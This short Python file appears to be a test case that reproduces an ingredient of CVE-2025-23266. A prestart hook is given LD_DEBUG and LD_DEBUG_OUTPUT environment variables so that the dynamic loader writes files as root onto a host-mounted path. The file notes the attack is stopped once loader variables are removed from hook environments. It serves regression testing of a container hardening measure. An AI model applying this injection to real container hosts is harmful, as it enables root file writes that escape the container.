"""Docker's own hook with an environment under which the loader writes files as root."""

import glob

from bypass import inert

SOURCE = "CVE-2025-23266: its ingredient"
WAY = "create"
STOPPED = inert("the loader's variables are taken out of a hook's environment")


def attack(t):
    t.allow_network()
    t.hook("prestart", t.dockerd(), "libnetwork-setkey", "-c", "read line; true", env=["LD_DEBUG=libs", "LD_DEBUG_OUTPUT=/mnt/host/written"])
    t.run("true")
    return glob.glob("/mnt/host/written*")
